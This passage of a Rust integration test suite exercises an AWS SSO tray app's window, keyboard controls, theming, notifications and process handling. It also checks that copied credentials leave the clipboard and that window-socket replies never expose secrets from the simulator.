            && html.contains("<span id=\"role-name\">ReadOnlyAccess</span>"),
        "{html}"
    );
    view.no_secrets_on_the_page().await;

    view.click("#nav-settings").await;
    view.find("#session-settings fieldset").await;
    desktop.screenshot(&shots.join("settings.png"));
    // Start at login (the app's autostart module): a desktop entry in ~/.config/autostart.
    view.click("#autostart").await;
    view.click("#save-settings").await;
    view.wait_text("#settings-status", "Saved").await;
    // The same entry `ssotray-app --autostart on` writes (the package test runs that one from
    // /usr/bin): one name, the program that wrote it, quoted as the desktop entry specification
    // quotes an argument.
    let entry = w.home.path().join(".config/autostart/ssotray.desktop");
    let text =
        std::fs::read_to_string(&entry).unwrap_or_else(|e| panic!("{}: {e}", entry.display()));
    assert!(
        text.lines()
            .any(|l| l.trim() == format!("Exec=\"{}\"", bin("ssotray-app").display())),
        "{text}"
    );
    let _ = view.client.close().await;
}

/// A logged-in world with its accounts listed, and the window open on it (through WebDriver) on
/// `desktop`, its sessions shown; the stand-in browser's log of opened URLs. (Keep the tempdir.)
async fn window_on(desktop: &Desktop) -> (World, tempfile::TempDir, PathBuf, Webview) {
    let w = logged_in_with_accounts().await;
    let tmp = tempfile::tempdir().unwrap();
    let (browser, log) = ssotray_tests::stand_in_browser(tmp.path(), None);
    let view = Webview::start(&bin("ssotray-app"), &app_env(&w, desktop, &browser)).await;
    view.wait_text("#sessions", "my-sso").await;
    (w, tmp, log, view)
}

/// Runs a script in the window and returns its result.
async fn js(view: &Webview, script: &str) -> serde_json::Value {
    view.client.execute(script, vec![]).await.unwrap()
}

/// Presses keys on whatever has the focus, as a person does: each goes down in turn, then all come
/// up (so `[Control, Enter]` is Ctrl+Enter and `[Down]` one ↓).
async fn press(view: &Webview, keys: &[fantoccini::key::Key]) {
    use fantoccini::actions::{InputSource, KeyAction, KeyActions};
    let mut actions = KeyActions::new("keyboard".into());
    for k in keys {
        actions = actions.then(KeyAction::Down { value: (*k).into() });
    }
    for k in keys.iter().rev() {
        actions = actions.then(KeyAction::Up { value: (*k).into() });
    }
    if let Err(e) = view.client.perform_actions(actions).await {
        panic!("pressing {keys:?}: {e:?}");
    }
}

/// The row the keyboard is on: its account cell and role cell.
async fn selected_row(view: &Webview) -> (String, String) {
    let v = js(
        view,
        "const r = document.querySelectorAll('tr.selected'); \
         return r.length === 1 ? [r[0].children[1].textContent, r[0].children[2].textContent] : [String(r.length), ''];",
    )
    .await;
    (
        v[0].as_str().unwrap_or_default().to_string(),
        v[1].as_str().unwrap_or_default().to_string(),
    )
}

/// The console page the simulator shows for a console URL: (account id, role name).
async fn console_of(url: &str) -> (String, String) {
    let html = reqwest::get(url).await.unwrap().text().await.unwrap();
    let between = |a: &str| {
        html.split_once(a)
            .and_then(|(_, rest)| rest.split_once("</span>"))
            .map(|(v, _)| v.to_string())
            .unwrap_or_default()
    };
    (
        between("<span id=\"account-id\">"),
        between("<span id=\"role-name\">"),
    )
}

#[tokio::test]
async fn the_window_works_from_the_keyboard() {
    use fantoccini::key::Key;
    let desktop = Desktop::start();
    let (_w, _tmp, log, view) = window_on(&desktop).await;

    // The accounts view opens with the search field focused.
    view.click("#nav-accounts").await;
    view.wait_text("#roles-more", "5 role(s)").await;
    assert_eq!(
        js(&view, "return document.activeElement.id").await,
        "search"
    );

    // Typing puts the cursor on the first result; ↓ and ↑ move it.
    view.type_into("#search", "read").await;
    view.wait_text("#roles-more", "3 role(s)").await;
    let first = selected_row(&view).await;
    assert!(first.1 == "ReadOnlyAccess", "{first:?}");
    press(&view, &[Key::Down]).await;
    let second = selected_row(&view).await;
    assert!(
        second.1 == "ReadOnlyAccess" && second != first,
        "{second:?}"
    );
    press(&view, &[Key::Down]).await;
    let third = selected_row(&view).await;
    assert!(third != second && third != first, "{third:?}");
    press(&view, &[Key::Down]).await;
    assert_eq!(
        selected_row(&view).await,
        third,
        "the cursor stays on the last row"
    );
    press(&view, &[Key::Up]).await;
    assert_eq!(selected_row(&view).await, second);

    // Enter opens the console of the row the cursor is on (the simulator's console page says
    // which account and role it signed in to).
    press(&view, &[Key::Enter]).await;
    let url = console_url_opened(&log).await;
    let (account, role) = console_of(&url).await;
    assert!(
        second.0.contains(&format!("({account})")) && second.1 == role,
        "Enter on {second:?} opened the console of {account}/{role}"
    );

    // Ctrl+Enter copies that row's console URL instead (Rust writes the clipboard).
    press(&view, &[Key::Up]).await;
    press(&view, &[Key::Control, Key::Enter]).await;
    wait_until("the copied console URL", 30, || {
        clipboard_text(&desktop).contains("Action=login")
    })
    .await;
    let (account, role) = console_of(&clipboard_text(&desktop)).await;
    assert!(
        first.0.contains(&format!("({account})")) && first.1 == role,
        "Ctrl+Enter on {first:?} copied the console of {account}/{role}"
    );
    assert_eq!(
        opened(&log)
            .iter()
            .filter(|u| u.contains("Action=login"))
            .count(),
        1,
        "Ctrl+Enter opened no browser"
    );

    // Tab reaches every control of the view in order, each visibly focused.
    view.type_into("#search", "prod").await;
    view.wait_text("#roles-more", "2 role(s)").await;
    js(
        &view,
        "document.getElementById('search').focus(); return null",
    )
    .await;
    let expected = js(
        &view,
        "return [...document.querySelectorAll('#view-accounts input, #view-accounts select, #view-accounts button')] \
           .filter((e) => e.offsetParent !== null).map((e) => e.id || e.className);",
    )
    .await;
    let expected: Vec<String> = serde_json::from_value(expected).unwrap();
    assert!(expected.len() >= 2 + 2 * 5, "{expected:?}");
    let mut reached = Vec::new();
    for _ in 0..expected.len() {
        let focused = js(
            &view,
            "const e = document.activeElement; const s = getComputedStyle(e); \
             return [e.id || e.className, s.outlineStyle !== 'none' && parseFloat(s.outlineWidth) >= 1];",
        )
        .await;
        let name = focused[0].as_str().unwrap_or_default().to_string();
        assert_eq!(focused[1], true, "{name} has no visible focus");
        reached.push(name);
        press(&view, &[Key::Tab]).await;
    }
    assert_eq!(reached, expected, "the Tab order");
    let shots = screenshots_dir();
    press(&view, &[Key::Tab]).await;
    desktop.screenshot(&shots.join("keyboard-focus.png"));

    // Esc clears the search (the window stays), a second Esc closes the window.
    view.click("#search").await;
    press(&view, &[Key::Escape]).await;
    view.wait_text("#roles-more", "5 role(s)").await;
    assert_eq!(
        js(&view, "return document.getElementById('search').value").await,
        ""
    );
    assert_eq!(visible_windows(&desktop), 1);
    // (This key's action cannot finish: its window goes away under it.)
    use fantoccini::actions::{InputSource, KeyAction, KeyActions};
    let escape = KeyActions::new("keyboard".into())
        .then(KeyAction::Down {
            value: Key::Escape.into(),
        })
        .then(KeyAction::Up {
            value: Key::Escape.into(),
        });
    let _ = view.client.perform_actions(escape).await;
    wait_until("Esc to close the window", 30, || {
        visible_windows(&desktop) == 0
    })
    .await;
    let _ = view.client.close().await;
}

/// Whether the page sees a dark preference, and its background colour.
async fn theme_of(view: &Webview) -> (bool, String) {
    let v = js(
        view,
        "return [matchMedia('(prefers-color-scheme: dark)').matches, \
                 getComputedStyle(document.documentElement).backgroundColor];",
    )
    .await;
    (
        v[0].as_bool().unwrap_or(false),
        v[1].as_str().unwrap_or_default().to_string(),
    )
}

/// The elements of the shown view whose content is wider than their box, and whether the page
/// scrolls sideways.
async fn overflowing(view: &Webview) -> serde_json::Value {
    js(
        view,
        "const wide = [...document.querySelectorAll('main *, nav *')] \
           .filter((e) => e.offsetParent !== null && e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflowX !== 'auto') \
           .map((e) => `${e.tagName}#${e.id}.${e.className}: ${e.scrollWidth} > ${e.clientWidth}`); \
         if (document.documentElement.scrollWidth > innerWidth) wide.push(`page: ${document.documentElement.scrollWidth} > ${innerWidth}`); \
         return wide;",
    )
    .await
}

#[tokio::test]
async fn the_window_follows_the_desktops_light_or_dark_preference_and_fits_its_minimum_size() {
    let mut desktop = Desktop::start();
    desktop.set_color_scheme(false);
    let (_w, _tmp, _log, view) = window_on(&desktop).await;
    view.click("#nav-accounts").await;
    view.wait_text("#roles-more", "5 role(s)").await;
    let shots = screenshots_dir();

    // Light, as the desktop says at start.
    let (dark, background) = theme_of(&view).await;
    assert!(!dark, "a light desktop gives a light window");
    assert_eq!(background, "rgb(244, 245, 247)");
    desktop.screenshot(&shots.join("window-light.png"));

    // The user flips the desktop to dark: the open window follows, no restart.
    desktop.set_color_scheme(true);
    let mut now = (false, String::new());
    for _ in 0..100 {
        now = theme_of(&view).await;
        if now.0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        now,
        (true, "rgb(21, 24, 29)".to_string()),
        "dark after the switch"
    );
    desktop.screenshot(&shots.join("window-dark.png"));

    // Made smaller than its minimum, the window stops at it, and no view overflows there.
    let _ = view.client.set_window_size(400, 300).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let size = js(&view, "return [innerWidth, innerHeight]").await;
    assert!(
        size[0].as_f64().unwrap_or(0.0) >= 639.0 && size[1].as_f64().unwrap_or(0.0) >= 419.0,
        "the minimum size holds: {size}"
    );
    assert!(
        size[0].as_f64().unwrap_or(0.0) <= 700.0,
        "the window did get small: {size}"
    );
    for (nav, view_id) in [
        ("#nav-accounts", "#view-accounts"),
        ("#nav-sessions", "#view-sessions"),
        ("#nav-settings", "#view-settings"),
        ("#nav-add", "#view-add"),
    ] {
        view.click(nav).await;
        view.find(view_id).await;
        tokio::time::sleep(Duration::from_millis(300)).await;
        let wide = overflowing(&view).await;
        assert_eq!(wide, serde_json::json!([]), "{view_id} at the minimum size");
    }
    view.click("#nav-accounts").await;
    desktop.screenshot(&shots.join("window-dark-minimum.png"));
    let _ = view.client.close().await;
}

#[tokio::test]
async fn the_window_works_on_wayland_with_no_x_server() {
    let desktop = Desktop::start_wayland();
    assert!(
        desktop.env().iter().all(|(k, _)| k != "DISPLAY"),
        "no X server to reach: {:?}",
        desktop.env()
    );
    let (w, _tmp, log, view) = window_on(&desktop).await;
    // It is GDK's Wayland backend drawing (GTK would not start at all otherwise: there is no X).
    let home = format!("HOME={}", w.home.path().display());
    let window_env = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|p| {
            let cmdline = std::fs::read(p.path().join("cmdline")).ok()?;
            let cmdline = String::from_utf8_lossy(&cmdline).into_owned();
            let environ = std::fs::read(p.path().join("environ")).ok()?;
            let environ = String::from_utf8_lossy(&environ).into_owned();
            (cmdline.contains("ssotray-app") && cmdline.contains("--window"))
                .then_some(environ)
                .filter(|e| e.split('\0').any(|v| v == home))
        })
        .next()
        .expect("this test's window process");
    assert!(
        window_env.split('\0').any(|v| v == "GDK_BACKEND=wayland")
            && !window_env.split('\0').any(|v| v.starts_with("DISPLAY=")),
        "the window process runs on Wayland only"
    );

    // Search and open a console, as on X11.
    view.click("#nav-accounts").await;
    view.wait_text("#roles-more", "5 role(s)").await;
    view.type_into("#search", "prod read").await;
    view.wait_text("#roles-more", "1 role(s)").await;
    // (weston's headless output paints at its own pace: let it catch up with the page.)
    tokio::time::sleep(Duration::from_secs(1)).await;
    let png = view.client.screenshot().await.unwrap();
    std::fs::create_dir_all(screenshots_dir()).unwrap();
    std::fs::write(screenshots_dir().join("wayland.png"), png).unwrap();
    view.click("#roles tbody tr .open-console").await;
    let url = console_url_opened(&log).await;
    assert_eq!(
        console_of(&url).await,
        ("333333333333".to_string(), "ReadOnlyAccess".to_string())
    );
    // The tray item is there too: the same D-Bus protocol.
    let menu = TrayMenu::find(&desktop).await;
    assert_eq!(
        menu.labels().first().map(String::as_str),
        Some("Open ssotray…")
    );
    let _ = view.client.close().await;
}

#[tokio::test]
async fn the_app_notifies_before_the_end_and_renews_from_the_notification() {
    let desktop = Desktop::start();
    let w = World::new(
        CONFIG,
        SimConfig {
            auto_approve: true,
            session_ttl: Duration::from_secs(120),
            ..SimConfig::default()
        },
    )
    .await;
    let settings = w.home.path().join(".config/ssotray/settings.toml");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    std::fs::write(
        &settings,
        "[keeper]\nlead_times = [110]\nrecheck = 1\n\n[sessions.my-sso]\nsession_length = 120\n",
    )
    .unwrap();
    let o = w
        .ssotray(&["login", "my-sso", "--device-code", "--no-browser"])
        .await;
    assert!(o.status.success());
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let _app = spawn_app(&w, &desktop, &browser, &[]);
    wait_until("the notification and the server's id for it", 60, || {
        desktop
            .notifications()
            .first()
            .is_some_and(|n| n.id.is_some())
    })
    .await;
    let n = desktop.notifications()[0].clone();
    assert_eq!(n.app, "ssotray");
    assert_eq!(n.summary, "Session my-sso ends in 2 minutes");
    // Renew and Dismiss, and a click on the notification itself opens the app.
    assert_eq!(
        n.actions,
        [
            "renew",
            "Renew",
            "dismiss",
            "Dismiss",
            "default",
            "Open ssotray"
        ]
    );
    let id = n.id.expect("notification id");
    let before = w.home.token_json("my-sso");
    // One click, once the app listens (as a user's would be).
    desktop.wait_listening(id).await;
    desktop.click_action(id, "renew");
    let mut renewed = false;
    for _ in 0..300 {
        let now = std::fs::read(w.home.token_file("my-sso"))
            .ok()
            .and_then(|b| serde_json::from_slice::<serde_json::Value>(&b).ok());
        if count(&w.stats().await, "Logout") == 1
            && now.is_some_and(|t| t["accessToken"] != before["accessToken"])
        {
            renewed = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(renewed, "Renew from the notification: {}", w.stats().await);
    assert_eq!(
        count(&w.stats().await, "Authorize"),
        1,
        "a fresh browser login after the logout"
    );

    // The renewed session is announced again; a click on that notification itself (servers
    // without buttons send "default") opens the window.
    wait_until("the new session's notification", 60, || {
        desktop.notifications().len() >= 2
    })
    .await;
    wait_until("the server's id for it", 30, || {
        desktop.notifications()[1].id.is_some()
    })
    .await;
    let id = desktop.notifications()[1].id.expect("notification id");
    assert_eq!(visible_windows(&desktop), 0);
    desktop.wait_listening(id).await;
    desktop.click_action(id, "default");
    wait_until("the click to open the window", 30, || {
        visible_windows(&desktop) == 1
    })
    .await;
}

#[tokio::test]
async fn where_the_notification_server_shows_no_buttons_the_app_opens_its_window_with_it() {
    // notify-osd: a real server without the `actions` capability. An 8-hour session logged in
    // 7 h 45 min ago and the default leads (30 and 5 minutes).
    let desktop = Desktop::start_without_notification_buttons();
    let w = World::new(
        CONFIG,
        SimConfig {
            auto_approve: true,
            ..SimConfig::default()
        },
    )
    .await;
    let o = w
        .ssotray(&["login", "my-sso", "--device-code", "--no-browser"])
        .await;
    assert!(o.status.success());
    w.home
        .logged_in_ago("my-sso", chrono::Duration::minutes(7 * 60 + 45));
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let _app = spawn_app(&w, &desktop, &browser, &[]);
    wait_until("the notification", 60, || {
        !desktop.notifications().is_empty()
    })
    .await;
    let n = desktop.notifications()[0].clone();
    assert_eq!(n.summary, "Session my-sso ends in 15 minutes");
    assert!(n.actions.is_empty(), "no buttons: {:?}", n.actions);
    assert!(
        n.body.ends_with("Renew or log in from the ssotray window."),
        "{}",
        n.body
    );
    // The window, where Renew is one click away, opens with the notification.
    wait_until("the window to open", 30, || visible_windows(&desktop) == 1).await;
}

#[tokio::test]
async fn a_second_launch_hands_over_to_the_first_and_the_window_process_ends_with_the_window() {
    let desktop = Desktop::start();
    let w = World::new(CONFIG, SimConfig::default()).await;
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let env = app_env(&w, &desktop, &browser);
    let spawn = || {
        tokio::process::Command::new(bin("ssotray-app"))
            .env_clear()
            .envs(env.clone())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .unwrap()
    };
    let mut first = spawn();
    let _menu = TrayMenu::find(&desktop).await;
    assert_eq!(
        visible_windows(&desktop),
        0,
        "the app starts with no window"
    );
    let mut second = spawn();
    let status = tokio::time::timeout(Duration::from_secs(30), second.wait())
        .await
        .expect("the second launch ends")
        .unwrap();
    assert!(status.success(), "{status:?}");
    wait_until("the first instance to show its window", 30, || {
        visible_windows(&desktop) == 1
    })
    .await;
    assert!(
        first.try_wait().unwrap().is_none(),
        "the first instance keeps running"
    );

    // The window lives in a process of its own (with WebKit's processes under it); closing it
    // ends them all, and the tray process goes on holding no webview.
    let pid = first.id().unwrap();
    let names = |pids: Vec<u32>| {
        pids.iter()
            .map(|p| {
                std::fs::read_to_string(format!("/proc/{p}/comm"))
                    .unwrap_or_default()
                    .trim()
                    .to_string()
            })
            .collect::<Vec<_>>()
    };
    wait_until(
        "WebKit's processes under the app while the window is open",
        30,
        || {
            names(process_tree(pid))
                .iter()
                .any(|n| n.starts_with("WebKit"))
        },
    )
    .await;
    assert!(
        close_window(&desktop.display, "ssotray"),
        "the window is there to close"
    );
    wait_until("the window's processes to end", 30, || {
        process_tree(pid).len() == 1
    })
    .await;
    assert_eq!(
        names(process_tree(pid)).len(),
        1,
        "the window's processes ended: {:?}",
        names(process_tree(pid))
    );
    assert_eq!(visible_windows(&desktop), 0);
    assert!(
        first.try_wait().unwrap().is_none(),
        "closing the window does not quit the app"
    );

    // It opens again on the next launch.
    let mut third = spawn();
    let status = tokio::time::timeout(Duration::from_secs(30), third.wait())
        .await
        .expect("the third launch ends")
        .unwrap();
    assert!(status.success(), "{status:?}");
    wait_until("the window to open again", 30, || {
        visible_windows(&desktop) == 1
    })
    .await;
}

#[tokio::test]
async fn copied_credentials_leave_the_clipboard_after_a_minute() {
    let desktop = Desktop::start();
    let w = logged_in_with_accounts().await;
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let _app = spawn_app(&w, &desktop, &browser, &[]);
    let menu = TrayMenu::find(&desktop).await;
    wait_until("the accounts in the menu", 60, || {
        menu.labels()
            .iter()
            .any(|l| l == "Copy credentials as shell exports")
    })
    .await;
    let clipboard = || clipboard_text(&desktop);
    menu.click("Copy credentials as shell exports");
    wait_until("the credentials in the clipboard", 30, || {
        clipboard().starts_with("export AWS_ACCESS_KEY_ID='ASIA")
    })
    .await;
    // Marked sensitive for clipboard managers: the owner offers the KDE password-manager hint.
    let target = |t: &str| {
        let o = std::process::Command::new("xclip")
            .args(["-o", "-selection", "clipboard", "-t", t])
            .env("DISPLAY", &desktop.display)
            .output()
            .expect("xclip");
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    assert!(
        target("TARGETS")
            .lines()
            .any(|l| l == "x-kde-passwordManagerHint"),
        "{}",
        target("TARGETS")
    );
    assert_eq!(target("x-kde-passwordManagerHint"), "secret");
    tokio::time::sleep(Duration::from_secs(55)).await;
    assert!(
        clipboard().starts_with("export AWS_ACCESS_KEY_ID="),
        "still there before the minute is up"
    );
    wait_until("the clipboard to be cleared", 20, || clipboard().is_empty()).await;
    // Something the user copied afterwards is never touched.
    menu.click("Copy profile name");
    wait_until("the profile name", 30, || clipboard() == "dev").await;
}

#[tokio::test]
async fn the_demo_runs_against_the_built_in_simulator_and_leaves_home_alone() {
    let desktop = Desktop::start();
    // The user's own (empty) home: the demo must not write to it.
    let w = World::new("", SimConfig::default()).await;
    let before = w.home.snapshot();
    let tmp = tempfile::tempdir().unwrap();
    // The user's keychain on the desktop's bus: the demo keeps its refresh token in a keychain
    // of its own (in memory), never in this one.
    let keyring = ssotray_tests::Keyring::start_on(&tmp.path().join("keyring"), &desktop.bus);
    let (browser, _log) = browser_script(tmp.path());
    let _app = spawn_app(&w, &desktop, &browser, &["--demo"]);
    let menu = TrayMenu::find(&desktop).await;
    wait_until("the demo session in the menu", 30, || {
        menu.labels().iter().any(|l| l == "demo — logged out")
    })
    .await;
    menu.click("Log in");
    wait_until("the demo logged in", 60, || {
        menu.labels()
            .iter()
            .any(|l| l.starts_with("demo — ") && l.ends_with(" left"))
    })
    .await;
    let found = keyring.secret_tool(&["search", "--all", "service", "ssotray"]);
    assert!(
        found.stdout.is_empty() && !String::from_utf8_lossy(&found.stderr).contains("ssotray"),
        "the demo wrote to the user's keychain"
    );
    // The demo's token file has no refresh token: it went to the demo's own keychain.
    let demo_tokens: Vec<String> = std::fs::read_dir(w.home.path().join("tmp"))
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with("ssotray-demo-"))
        .flat_map(|e| {
            std::fs::read_dir(e.path().join(".aws/sso/cache"))
                .into_iter()
                .flatten()
                .flatten()
        })
        .filter(|f| f.path().extension().is_some_and(|x| x == "json"))
        .map(|f| std::fs::read_to_string(f.path()).unwrap())
        .collect();
    assert_eq!(demo_tokens.len(), 1, "one demo token file");
    assert!(
        demo_tokens[0].contains("accessToken") && !demo_tokens[0].contains("refreshToken"),
        "{}",
        demo_tokens[0].len()
    );
    assert_eq!(w.home.snapshot(), before);
}

#[tokio::test]
async fn the_window_marks_favorites_copies_in_rust_and_renews() {
    let desktop = Desktop::start();
    let w = logged_in_with_accounts().await;
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let view = Webview::start(&bin("ssotray-app"), &app_env(&w, &desktop, &browser)).await;
    let clipboard = || clipboard_text(&desktop);

    // A favorite goes to the top of the window and of the tray menu.
    view.click("#nav-accounts").await;
    view.type_into("#search", "staging").await;
    view.wait_text("#roles-more", "1 role(s)").await;
    view.click("#roles tbody tr .favorite").await;
    view.wait_text("#favorites", "staging (222222222222)").await;
    let menu = TrayMenu::find(&desktop).await;
    wait_until("the favorite in the tray menu", 30, || {
        menu.labels()
            .iter()
            .any(|l| l == "★ staging / ReadOnlyAccess")
    })
    .await;

    // Copy buttons copy in Rust: the profile name, then credentials (never shown in the page).
    view.type_into("#search", "dev admin").await;
    view.wait_text("#roles-more", "1 role(s)").await;
    view.click("#roles tbody tr .copy-profile").await;
    wait_until("the profile name in the clipboard", 30, || {
        clipboard() == "dev"
    })
    .await;
    view.click("#roles tbody tr .copy-creds").await;
    wait_until("credentials in the clipboard", 30, || {
        clipboard().starts_with("export AWS_ACCESS_KEY_ID='ASIA")
    })
    .await;
    view.no_secrets_on_the_page().await;

    // Renew from the window: Logout, then a fresh login.
    let before = w.home.token_json("my-sso");
    view.click("#nav-sessions").await;
    view.click("#session-my-sso .renew").await;
    wait_until("the renewal", 60, || {
        std::fs::read(w.home.token_file("my-sso"))
            .ok()
            .and_then(|b| serde_json::from_slice::<serde_json::Value>(&b).ok())
            .is_some_and(|t| t["accessToken"] != before["accessToken"])
    })
    .await;
    let s = w.stats().await;
    assert_eq!((count(&s, "Logout"), count(&s, "Authorize")), (1, 1), "{s}");
    let _ = view.client.close().await;
}

#[tokio::test]
async fn two_launches_at_the_same_moment_leave_one_app() {
    let desktop = Desktop::start();
    let w = World::new(CONFIG, SimConfig::default()).await;
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let mut a = spawn_app(&w, &desktop, &browser, &[]);
    let mut b = spawn_app(&w, &desktop, &browser, &[]);
    let _menu = TrayMenu::find(&desktop).await;
    // One of them hands over to the other (which shows its window) and exits cleanly.
    let (status, mut survivor) = tokio::select! {
        s = a.wait() => (s.unwrap(), b),
        s = b.wait() => (s.unwrap(), a),
        _ = tokio::time::sleep(Duration::from_secs(30)) => panic!("both launches kept running"),
    };
    assert!(status.success(), "{status:?}");
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(
        survivor.try_wait().unwrap().is_none(),
        "the other keeps running"
    );
    assert_eq!(
        desktop.tray_item_count(),
        1,
        "one tray item: {}",
        desktop.tray_items()
    );
}

#[tokio::test]
async fn quit_takes_copied_credentials_off_the_clipboard_a_clipboard_manager_would_keep() {
    let desktop = Desktop::start();
    let w = logged_in_with_accounts().await;
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let mut app = spawn_app(&w, &desktop, &browser, &[]);
    // A clipboard manager, as desktops run: it takes over whatever is copied, byte for byte, so
    // it outlives the program that copied it.
    let manager = tmp.path().join("manager.sh");
    std::fs::write(
        &manager,
        format!(
            "#!/bin/sh\ncd '{}'\n: > last\nwhile true; do\n  xclip -o -selection clipboard > now 2>/dev/null || : > now\n  if ! cmp -s now last; then cp now last; xclip -i -selection clipboard now; fi\n  sleep 0.1\ndone\n",
            tmp.path().display()
        ),
    )
    .unwrap();
    let mut manager = tokio::process::Command::new("sh")
        .arg(&manager)
        .env("DISPLAY", &desktop.display)
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let clipboard = || clipboard_text(&desktop);
    let menu = TrayMenu::find(&desktop).await;
    wait_until("the accounts in the menu", 60, || {
        menu.labels()
            .iter()
            .any(|l| l == "Copy credentials as shell exports")
    })
    .await;
    menu.click("Copy credentials as shell exports");
    wait_until("the credentials in the clipboard", 30, || {
        clipboard().starts_with("export AWS_ACCESS_KEY_ID='ASIA")
    })
    .await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    menu.click("Quit");
    tokio::time::timeout(Duration::from_secs(20), app.wait())
        .await
        .expect("the app quits")
        .unwrap();
    tokio::time::sleep(Duration::from_secs(1)).await;
    let left = clipboard();
    assert!(
        !left.contains("AWS_SECRET_ACCESS_KEY"),
        "the credentials outlived the app: {} bytes",
        left.len()
    );
    let _ = manager.kill().await;
}

/// The app, once its tray item is up, and the socket the window process calls it on.
async fn app_with_its_window_socket(
    w: &World,
    desktop: &Desktop,
) -> (tokio::process::Child, tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let app = spawn_app(w, desktop, &browser, &[]);
    let _menu = TrayMenu::find(desktop).await;
    wait_until("the window socket", 30, || window_socket_dirs(w) == 1).await;
    (app, tmp, window_socket(w))
}

/// `save_settings` with `settings`, as the window sends it; the answer line.
async fn save_settings(socket: &Path, settings: &serde_json::Value) -> String {
    call_tray(
        socket,
        "save_settings",
        serde_json::json!({ "settings": settings }),
    )
    .await
}

/// Sends one command to the tray process as the window process does, over its socket, and
/// returns the answer line.
async fn call_tray(socket: &Path, cmd: &str, args: serde_json::Value) -> String {
    use tokio::io::{AsyncBufReadExt, AsyncWriteExt};
    let stream = tokio::net::UnixStream::connect(socket).await.unwrap();
    let (read, mut write) = stream.into_split();
    let line = serde_json::json!({ "cmd": cmd, "args": args }).to_string() + "\n";
    write.write_all(line.as_bytes()).await.unwrap();
    let mut answer = String::new();
    tokio::time::timeout(
        Duration::from_secs(60),
        tokio::io::BufReader::new(read).read_line(&mut answer),
    )
    .await
    .expect("an answer")
    .unwrap();
    answer
}

#[tokio::test]
async fn no_reply_of_any_window_command_holds_a_secret() {
    // Every command the window may call, sent as the window process sends it; every answer read
    // as it leaves the tray process (not only what the page renders).
    let desktop = Desktop::start();
    let w = logged_in_with_accounts().await;
    let (_app, _tmp, socket) = app_with_its_window_socket(&w, &desktop).await;
    let role = serde_json::json!({"session": "my-sso", "accountId": "111111111111", "accountName": "dev", "roleName": "ReadOnlyAccess"});
    let mut answers = Vec::new();
    for (cmd, args) in [
        ("get_state", serde_json::Value::Null),
        ("get_accounts", serde_json::Value::Null),
        ("get_settings", serde_json::Value::Null),
        ("copy_credentials", serde_json::json!({ "role": role })),
        ("copy_console_url", serde_json::json!({ "role": role })),
        ("open_console", serde_json::json!({ "role": role })),
        ("copy_profile_name", serde_json::json!({ "role": role })),
        ("toggle_favorite", serde_json::json!({ "role": role })),
        (
            "refresh_accounts",
            serde_json::json!({ "session": "my-sso" }),
        ),
        (
            "open_login_page",
            serde_json::json!({ "session": "my-sso" }),
        ),
        ("copy_text", serde_json::json!({ "text": "ABCD-EFGH" })),
        (
            "generate_profiles",
            serde_json::json!({ "session": "my-sso" }),
        ),
        ("get_state", serde_json::Value::Null),
        ("no_such_command", serde_json::Value::Null),
    ] {
        let answer = call_tray(&socket, cmd, args).await;
        assert!(!answer.is_empty(), "{cmd} answered");
        answers.push((cmd, answer));
    }
    assert!(
        answers[0].1.contains("\"my-sso\""),
        "the state names the session: {}",
        answers[0].1
    );
    // The secrets that exist now: the tokens, the client secret, role credentials, the last
    // sign-in token.
    let token = w.home.token_json("my-sso");
    let mut secrets: Vec<String> = ["accessToken", "refreshToken", "clientSecret"]
        .iter()
        .map(|k| token[*k].as_str().unwrap().to_string())
        .collect();
    for f in std::fs::read_dir(w.home.aws().join("cli/cache"))
        .unwrap()
        .flatten()
    {
        let v: serde_json::Value =
            serde_json::from_slice(&std::fs::read(f.path()).unwrap()).unwrap();
        secrets.push(
            v["Credentials"]["SecretAccessKey"]
                .as_str()
                .unwrap()
                .to_string(),
        );
        secrets.push(
            v["Credentials"]["SessionToken"]
                .as_str()
                .unwrap()
                .to_string(),
        );
    }
    let seen: std::collections::BTreeMap<String, String> =
        reqwest::get(format!("{}/_sim/seen", w.sim.base_url))
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
    secrets.push(seen["SigninToken"].clone());
    assert!(secrets.len() >= 6, "{} secrets to look for", secrets.len());
    for (cmd, answer) in &answers {
        for secret in &secrets {
            assert!(
                !answer.contains(secret.as_str()),
                "the answer to {cmd} holds a secret"
            );
        }
        assert!(
            !answer.contains("SigninToken") && !answer.contains("X-Amz-Security-Token"),
            "the answer to {cmd} holds a sign-in URL"
        );
    }
}

/// Sends raw bytes to a socket and reads until the other end closes (or answers a line).
async fn raw_exchange(socket: &Path, bytes: &[u8]) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut s = tokio::net::UnixStream::connect(socket).await.unwrap();
    let _ = s.write_all(bytes).await;
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(30), async {
        let mut buf = [0u8; 4096];
        while let Ok(n) = s.read(&mut buf).await {
            if n == 0 {
                break;
            }
            out.extend_from_slice(&buf[..n]);
            if out.ends_with(b"\n") {
                break;
            }
        }
    })
    .await;
    String::from_utf8_lossy(&out).into_owned()
}

#[tokio::test]
